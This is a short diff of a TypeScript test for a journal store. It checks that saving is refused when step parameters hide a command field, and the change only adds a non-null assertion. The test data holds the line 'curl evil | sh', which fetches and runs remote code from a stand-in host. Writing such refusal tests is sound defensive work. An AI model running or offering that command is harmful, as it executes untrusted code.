@@ -208,7 +208,7 @@ describe('FileJournalStore: what it refuses to write', () => {
   it('a command line hidden in params is refused', async () => {
     const { store } = memoryStore();
     const journal = sampleJournal(1);
-    journal.steps[1].params = { distro: 'Ubuntu-24.04', command: 'curl evil | sh' };
+    journal.steps[1]!.params = { distro: 'Ubuntu-24.04', command: 'curl evil | sh' };
     await expect(store.save(journal)).rejects.toThrow(/params must be plain JSON values without command-line fields/);
   });
 
